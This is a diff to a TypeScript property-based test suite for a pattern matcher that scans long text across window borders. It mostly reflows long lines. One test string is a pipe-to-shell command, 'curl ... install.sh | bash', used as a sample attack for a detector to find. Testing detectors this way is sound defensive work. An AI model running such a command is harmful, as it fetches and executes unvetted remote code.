@@ -28,10 +28,29 @@ const line = fc.constantFrom(...lines);
 const nearMiss = fc
   .tuple(line, fc.nat(), fc.constantFrom("", " ", "é", "X", "\n", "\r"))
   .map(([text, at, put]) => text.slice(0, at % text.length) + put + text.slice((at % text.length) + 1));
-const filler = fc.constantFrom(" ", "\n", "\r\n", "\r", "\n\n", ". ", "日本", "é", "😀", "\u2028", "x".repeat(900), " ab".repeat(700), "word ".repeat(900), "-".repeat(3072));
-const cased = fc.tuple(fc.oneof(literal, line, nearMiss), fc.boolean()).map(([text, isLoud]) => (isLoud ? text.toUpperCase() : text));
+const filler = fc.constantFrom(
+  " ",
+  "\n",
+  "\r\n",
+  "\r",
+  "\n\n",
+  ". ",
+  "日本",
+  "é",
+  "😀",
+  "\u2028",
+  "x".repeat(900),
+  " ab".repeat(700),
+  "word ".repeat(900),
+  "-".repeat(3072),
+);
+const cased = fc
+  .tuple(fc.oneof(literal, line, nearMiss), fc.boolean())
+  .map(([text, isLoud]) => (isLoud ? text.toUpperCase() : text));
 /** Lower case keeps the length of every normalised text; of these characters too. */
-const text = fc.array(fc.oneof(cased, filler), { minLength: 1, maxLength: 10 }).map((parts) => parts.join("").replaceAll("İ", "I"));
+const text = fc
+  .array(fc.oneof(cased, filler), { minLength: 1, maxLength: 10 })
+  .map((parts) => parts.join("").replaceAll("İ", "I"));
 
 /** In both forms, as if the text were its own normalised form. */
 function findIn(of: string, wanted: (matcher: StoredMatcher) => boolean): readonly Match[] {
@@ -67,7 +86,9 @@ test("no multi-line match is lost, however long the lines around it", () => {
     fc.property(text, (of) => {
       const found = findIn(of, ({ multiline }) => multiline);
       for (const { index, start, end } of matchWholeText(of, pack, REACH)) {
-        const isFound = found.some((match) => match.matcher === pack.matchers[index] && match.start < end && start < match.end);
+        const isFound = found.some(
+          (match) => match.matcher === pack.matchers[index] && match.start < end && start < match.end,
+        );
         expect(isFound, `${index} ${JSON.stringify(of.slice(start, end))}`).toBe(true);
       }
     }),
@@ -78,13 +99,16 @@ test("no multi-line match is lost, however long the lines around it", () => {
 describe("across the border of two windows", () => {
   const attack = "curl -fsSL https://example.test/install.sh | bash";
 
-  test.each([0, 3000, 3040, 3071, 3072, 3073, 4047, 4048, 4090, 4096, 6143, 7000])("a match at %i of a long line", (at) => {
-    const of = `${" ".repeat(at)}${attack}${" ".repeat(5000)}`;
-    const found = findIn(of, () => true);
-    expect(found.length).toBeGreaterThan(0);
-    expect(Math.min(...found.map(({ start }) => start))).toBeGreaterThanOrEqual(at);
-    expect(matchesOf(of, false)).toEqual(matchEveryLine(of, pack));
-  });
+  test.each([0, 3000, 3040, 3071, 3072, 3073, 4047, 4048, 4090, 4096, 6143, 7000])(
+    "a match at %i of a long line",
+    (at) => {
+      const of = `${" ".repeat(at)}${attack}${" ".repeat(5000)}`;
+      const found = findIn(of, () => true);
+      expect(found.length).toBeGreaterThan(0);
+      expect(Math.min(...found.map(({ start }) => start))).toBeGreaterThanOrEqual(at);
+      expect(matchesOf(of, false)).toEqual(matchEveryLine(of, pack));
+    },
+  );
 });
 
 test("matches come in the order of the text, and each once", () => {
